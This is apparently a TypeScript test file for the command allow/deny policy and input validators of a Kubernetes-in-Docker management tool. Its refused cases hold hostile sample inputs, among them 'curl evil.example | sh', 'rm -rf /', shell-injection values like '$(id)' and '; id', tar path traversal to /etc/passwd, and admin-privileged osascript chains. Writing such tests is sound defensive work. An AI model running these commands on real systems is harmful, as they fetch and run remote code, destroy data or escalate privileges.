import { describe, expect, it } from 'vitest';
import { KindscopeError } from '../../contract';
import { toolSpecs } from './tool-specs';
import { runCommandPolicy, type PolicyTool } from './run-policy';
import { validate } from './validate-input';

type Row = [PolicyTool, string, string[]];

/** Every command Kindscope writes today, and the ones the coming features write. */
const allowed: Row[] = [
  ['kind', 'kind', ['version']],
  ['kind', '/opt/homebrew/bin/kind', ['get', 'clusters']],
  [
    'kind',
    '/home/u/.local/share/kindscope/tools/kind',
    ['create', 'cluster', '--name', 'lab', '--config', '/tmp/c.yaml'],
  ],
  ['kind', '/usr/local/bin/kind-linux-amd64', ['version']],
  ['helm', '/usr/local/bin/helm', ['upgrade', '--install', 'cilium', 'cilium/cilium', '--version', '1.16.5']],
  ['kubectl', '/usr/bin/kubectl', ['version', '--client', '-o', 'json']],
  ['kubectl', '/usr/bin/kubectl.1.33', ['get', 'pods', '-l', 'app=web']],
  ['cilium', '/usr/local/bin/cilium', ['status', '--wait']],
  ['docker', '/usr/bin/docker', ['version', '--format', '{{.Client.Version}}']],
  ['brew', '/opt/homebrew/bin/brew', ['--version']],
  ['ip', 'ip', ['-j', 'link', 'show']],
  ['ip', 'ip', ['-j', 'neigh', 'show', '172.18.255.200']],
  ['ip', 'ip', ['-j', 'neigh', 'show', 'fc00:f853:ccd:e793::5']],
  ['ip', 'ip', ['neigh', 'del', '172.18.250.1', 'dev', 'br-0123456789ab']],
  ['kubectl', 'kubectl', ['--context', 'kind-demo', 'apply', '-f', '-']],
  ['kubectl', 'kubectl', ['--context=kind-demo', '--namespace', 'default', 'get', 'svc']],
  ['helm', 'helm', ['--kube-context', 'kind-demo', 'install', 'cilium', 'cilium/cilium']],
  ['netstat', 'netstat', ['-rn', '-f', 'inet']],
  ['ping', 'ping', ['-n', '-c', '3', '-W', '1', '172.18.0.2']],
  ['ping', 'ping', ['-n', '-c', '2', '-W', '1', 'fc00:f853:ccd:e793::3']],
  ['ping', '/sbin/ping', ['-n', '-c', '2', '-i', '0.2', '-W', '1000', '172.18.0.2']],
  ['route', '/sbin/route', ['-n', 'get', '172.18.0.2']],
  ['brew', '/opt/homebrew/bin/brew', ['--prefix']],
  ['brew', '/usr/local/bin/brew', ['install', 'chipmk/tap/docker-mac-net-connect']],
  ['brew', '/opt/homebrew/bin/brew', ['upgrade', 'chipmk/tap/docker-mac-net-connect']],
  ['brew', '/opt/homebrew/bin/brew', ['uninstall', 'chipmk/tap/docker-mac-net-connect']],
  ['brew', '/opt/homebrew/bin/brew', ['list', '--versions', 'chipmk/tap/docker-mac-net-connect']],
  ['brew', '/opt/homebrew/bin/brew', ['services', 'info', '--json', 'chipmk/tap/docker-mac-net-connect']],
  [
    'osascript',
    '/usr/bin/osascript',
    [
      '-e',
      'do shell script "/opt/homebrew/bin/brew services start chipmk/tap/docker-mac-net-connect" with administrator privileges',
    ],
  ],
  [
    'osascript',
    '/usr/bin/osascript',
    [
      '-e',
      'do shell script "/usr/local/bin/brew services stop chipmk/tap/docker-mac-net-connect" with administrator privileges',
    ],
  ],
  ['tar', 'tar', ['-xzf', '/d/.helm.partial', '-C', '/d/.helm.partial.d', 'linux-amd64/helm']],
  ['login-shell', '/bin/zsh', ['-ilc', 'env -0']],
  ['login-shell', '/opt/homebrew/bin/fish', ['-ilc', 'env -0']],
  // Each tool's own version command (Settings runs it to check a chosen file).
  ...toolSpecs.map((spec): Row => [spec.name, `/usr/local/bin/${spec.name}`, spec.versionArgs]),
];

/** [tool, bin, args, what the refusal must say] */
const refused: [...Row, RegExp][] = [
  ['ping', 'ping', ['-n', '-c', '2', '-i', '0.01', '-W', '1', '172.18.0.2'], /INTERVAL ≥ 0\.2/],
  // A name (a lookup: .cafe is a real TLD), broadcast, multicast, unspecified, no count or wait.
  ...['dead.beef.cafe', 'cafe', '255.255.255.255', '224.0.0.1', 'ff02::1', '::', '0.0.0.0'].map(
    (address): [...Row, RegExp] => ['ping', 'ping', ['-n', '-c', '2', '-W', '1', address], /one unicast IP address/],
  ),
  ['ping', 'ping', ['-n', '-c', '0', '-W', '1', '172.18.0.2'], /COUNT \(1–10\)/],
  ['ping', 'ping', ['-n', '-c', '2', '-W', '0', '172.18.0.2'], /only `ping -n -c COUNT/],
  ['ping', 'ping', ['-n', '-f', '172.18.0.2'], /only `ping -n -c COUNT/],
  ['ping', 'ping', ['-n', '-c', '2', '-W', '1', '172.18.0.2', '-p', 'ff'], /only `ping -n -c COUNT/],
  ['kind', '/bin/sh', ['version'], /\/bin\/sh is not kind: its file name is "sh"/],
  ['kind', '/usr/bin/python3', ['version'], /is not kind/],
  ['kind', './kind', ['version'], /relative/],
  ['kind', 'bin/kind', ['version'], /relative/],
  ['kind', '/tmp/kind\0x', ['version'], /control character/],
  ['kind', '/tmp/kindly', ['version'], /is not kind/],
  ['kind', '/usr/local/bin/kind', ['version', 'a\0b'], /NUL/],
  ['kind', '/usr/local/bin/kind', ['--kubeconfig=/etc/passwd'], /first argument/],
  ['kind', '/usr/local/bin/kind', [], /first argument/],
  ['kind', '/usr/local/bin/kind', ['version', 'x'.repeat(200_000)], /longer than/],
  ['kind', '/usr/local/bin/kind', Array.from({ length: 1_001 }, () => 'get'), /at most 1000/],
  ['helm', '/usr/local/bin/helm', ['plugin', 'install', 'https://evil.example/x'], /first argument/],
  ['kubectl', '/usr/bin/kubectl', ['proxy', '--address=0.0.0.0'], /first argument/],
  ['docker', '/usr/bin/docker', ['system', 'prune', '-af'], /first argument/],
  ['docker', '/usr/bin/docker', ['login'], /first argument/],
  ['ip', 'ip', ['link', 'delete', 'br-1234'], /only `ip -j/],
  ['ip', 'ip', ['-j', 'neigh', 'show', '$(id)'], /not an IP address/],
  ['ip', 'ip', ['neigh', 'del', '172.18.250.1', 'dev', 'br0', 'extra'], /only `ip neigh del ADDRESS dev DEVICE`/],
  ['ip', 'ip', ['neigh', 'del', 'all', 'dev', 'br0'], /only `ip neigh del ADDRESS dev DEVICE`/],
  ['ip', 'ip', ['neigh', 'flush', 'all'], /only `ip -j/],
  ['kubectl', 'kubectl', ['--token', 'x', 'get', 'pods'], /global flag "--token"/],
  ['kubectl', 'kubectl', ['--context', 'kind-demo', 'proxy'], /first argument must be one of/],
  ['ip', 'ip', ['-j', 'route', 'flush', 'all'], /only `ip -j/],
  ['netstat', 'netstat', ['-anp'], /only/],
  ['tar', 'tar', ['-xzf', '/d/a.tgz', '-C', '/d/x', '../../etc/passwd'], /relative path inside/],
  ['tar', 'tar', ['-xzf', '/d/a.tgz', '-C', '/d/x', '/etc/passwd'], /relative path inside/],
  ['tar', 'tar', ['-czf', '/d/a.tgz', '/home'], /only `tar -xzf/],
  ['tar', 'tar', ['-xzf', 'a.tgz', '-C', '/d/x', 'helm'], /absolute paths/],
  ['login-shell', '/bin/zsh', ['-ilc', 'curl evil.example | sh'], /only "-ilc env -0"/],
  ['login-shell', '/usr/bin/python3', ['-ilc', 'env -0'], /not a login shell/],
  ['rm' as PolicyTool, '/bin/rm', ['-rf', '/'], /does not run "rm"/],
  ['osascript', '/usr/bin/osascript', ['-e', 'x'], /only `osascript -e/],
  [
    'osascript',
    '/usr/bin/osascript',
    ['-e', 'do shell script "id" with administrator privileges', 'extra'],
    /only `osascript -e/,
  ],
  ['pkexec', '/usr/bin/pkexec', ['/usr/bin/id'], /only `pkexec \/bin\/sh -c SCRIPT`/],
  ['pkexec', '/usr/bin/pkexec', ['/bin/sh', '-c', 'id'], /not one of Kindscope's own/],
  [
    'osascript',
    '/usr/bin/osascript',
    ['-e', 'do shell script "id" with administrator privileges'],
    /not one of Kindscope's own/,
  ],
  ['resolvectl', '/usr/bin/resolvectl', ['flush-caches'], /only "--version"/],
  ['route', '/sbin/route', ['add', '172.18.0.0/16', '10.0.0.1'], /only `route -n get/],
  ['route', '/sbin/route', ['-n', 'get', '$(id)'], /only `route -n get/],
  ['brew', '/opt/homebrew/bin/brew', ['install', 'evil/tap/backdoor'], /only "--version"/],
  [
    'brew',
    '/opt/homebrew/bin/brew',
    ['services', 'start', 'chipmk/tap/docker-mac-net-connect', '--file=/tmp/x'],
    /only "--version"/,
  ],
  ['brew', '/opt/homebrew/bin/brew', ['tap', 'evil/tap'], /only "--version"/],
  [
    'osascript',
    '/usr/bin/osascript',
    [
      '-e',
      'do shell script "/tmp/x/brew services start chipmk/tap/docker-mac-net-connect" with administrator privileges',
    ],
    /not one of Kindscope's own/,
  ],
  [
    'osascript',
    '/usr/bin/osascript',
    [
      '-e',
      'do shell script "/opt/homebrew/bin/brew services start chipmk/tap/docker-mac-net-connect; id" with administrator privileges',
    ],
    /not one of Kindscope's own/,
  ],
  [
    'osascript',
    '/usr/bin/osascript',
    ['-e', 'do shell script "/opt/homebrew/bin/brew install $(id)" with administrator privileges'],
    /not one of Kindscope's own/,
  ],
];

describe('run policy', () => {
  it.each(allowed)('allows %s: %s %j', (tool, bin, args) => {
    expect(runCommandPolicy({ tool, bin, args })).toEqual({ allowed: true });
  });

  it.each(refused)('refuses %s: %s %j', (tool, bin, args, reason) => {
    const decision = runCommandPolicy({ tool, bin, args });
    expect(decision.allowed).toBe(false);
    if (decision.allowed) return;
    expect(decision.reason).toMatch(reason);
    expect(decision.hint).not.toBe('');
    expect(['bin', 'args']).toContain(decision.field);
  });
});

describe('validate (user values before they become arguments)', () => {
  it.each(['x; rm -rf ~', '$(id)', '`id`', 'Demo', '--kubeconfig=/etc/passwd', 'a b', ''])(
    'refuses the cluster name %j',
    (name) => {
      expect(() => validate.clusterName(name)).toThrow(KindscopeError);
    },
  );

  it('accepts kind names', () => {
    expect(validate.clusterName('kind-lab.v2')).toBe('kind-lab.v2');
  });

  it('refuses relative tool paths and images with shell characters', () => {
    expect(() => validate.path('bin/kind')).toThrow(/absolute path/);
    expect(() => validate.image('kindest/node:v1.33.1;id')).toThrow(KindscopeError);
    expect(validate.image('kindest/node:v1.33.1')).toBe('kindest/node:v1.33.1');
  });
});
